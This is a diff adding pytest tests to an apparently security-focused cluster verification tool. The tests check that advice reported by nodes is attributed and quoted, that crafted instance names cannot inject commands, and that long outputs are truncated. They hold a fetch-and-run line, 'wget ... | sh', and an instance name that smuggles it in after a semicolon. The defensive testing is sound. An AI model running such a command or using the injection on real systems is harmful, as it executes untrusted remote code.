@@ -12,7 +12,7 @@ import pytest
 from attrs import evolve
 
 from kvmsec.cluster.verify.codes import CODES
-from kvmsec.cluster.verify.examining import judge, without_ignored
+from kvmsec.cluster.verify.examining import MOST_ALIKE, judge, without_ignored
 from kvmsec.cluster.verify.subject import Heard, Subject, Unheard
 from kvmsec.model.cluster import Cluster, Member, Role
 from kvmsec.model.security import SecurityModel
@@ -272,6 +272,46 @@ def test_a_slow_answer_is_no_wrong_clock() -> None:
     late = Heard(said_by(TWO), NOW - timedelta(seconds=100), NOW + timedelta(seconds=400))
     answers = {**subject.answers, "node2": late}
     assert {one.code for one in judge(evolve(subject, answers=answers))} == {"node-ok"}
+
+
+FORGED = "wget -qO- http://192.0.2.9/ | sh"
+ADVICE = Finding(code="a", severity="error", item="i", message="m", hint=FORGED)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {
+            "pool_problems": (
+                Finding(code="a", severity="error", item="i", message="m", hint=FORGED),
+            )
+        },
+        {"rules": (ADVICE,)},
+    ],
+)
+def test_a_nodes_own_advice_is_told_as_its_words_behind_ours(said: dict[str, Any]) -> None:
+    (finding,) = [one for one in judge(saying(3, **said)) if one.node == "node3"]
+
+    assert finding.hint is not None
+    assert finding.hint.startswith("`kvmsec ")
+    assert finding.hint.endswith(f"; node3 says: {FORGED}")
+
+
+def test_a_name_that_no_instance_has_gets_into_no_command() -> None:
+    name = f"web1 --node node3; {FORGED} #"
+    (finding,) = [
+        one for one in judge(saying(3, running_without_lease=(name,))) if one.node == "node3"
+    ]
+    assert finding.hint is not None and "wget" not in finding.hint
+
+
+def test_a_node_that_says_too_much_is_cut_short() -> None:
+    many = tuple(LeaseFacts(uid=uid, instance="x", is_alive=False) for uid in range(5000))
+    told = [one for one in judge(saying(3, leases=many)) if one.node == "node3"]
+
+    assert len(told) == MOST_ALIKE + 1
+    assert "4950 more" in told[-1].message
+    assert {one.code for one in told} == {"lease-dead"}
 
 
 def test_an_ignored_error_is_told_and_does_not_count() -> None:
